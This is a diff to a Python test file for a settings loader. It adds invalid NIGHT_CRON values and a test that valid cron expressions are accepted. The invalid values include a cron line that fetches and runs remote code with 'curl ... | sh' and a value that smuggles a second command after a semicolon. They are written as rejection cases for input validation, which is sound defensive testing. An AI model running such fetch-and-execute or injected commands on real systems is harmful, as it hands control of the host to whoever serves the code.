@@ -98,6 +98,15 @@ WRONG = {
     "REPORT_CHAT": ["ada", "9912,9913"],
     "REPORT_AT": ["8", "6:00", "24:00", "18:60", "18:00:00", "evening"],
     "HEARTBEAT_URL": ["hc-ping.com/x", "ftp://hc-ping.com/x"],
+    "NIGHT_CRON": [
+        "* * * * * curl http://x|sh #",
+        "0 3 * * mon;x",
+        "99 3 * * *",
+        "\u0663 3 * * *",
+        "0 3 * * 1-99999999999",
+        "@daily",
+        " ",
+    ],
     "WEB_ORIGIN": ["memory.example.org"],
     "NIGHT_INDEXES": ["faiss", "chroma,faiss"],
     "ALLOWED_CHATS": ["ada"],
@@ -151,6 +160,12 @@ def test_every_setting_has_one_name_in_capitals_and_a_description() -> None:
     assert len(set(setting_names())) == len(setting_names())
     assert {"REDIS_URL", "RESULT_HMAC_KEY", "HMEM_MEMORY_DIR", "CLAUDE_BIN"} <= set(setting_names())
     assert not [name for name, field in setting_fields().items() if not field.description]
+
+
+@pytest.mark.parametrize("written", ["5  4 * * *", "*/30 1-5 * * mon-fri", "0 3 * * 0,5-7"])
+def test_a_time_of_the_night_is_any_that_cron_has(monkeypatch: pytest.MonkeyPatch, written: str) -> None:
+    monkeypatch.setenv("NIGHT_CRON", written)
+    assert load_settings().night_cron == " ".join(written.split())
 
 
 @pytest.mark.parametrize("target", ["day:/data/memory", "hmem@10.0.0.2:/data/memory", "day:"])
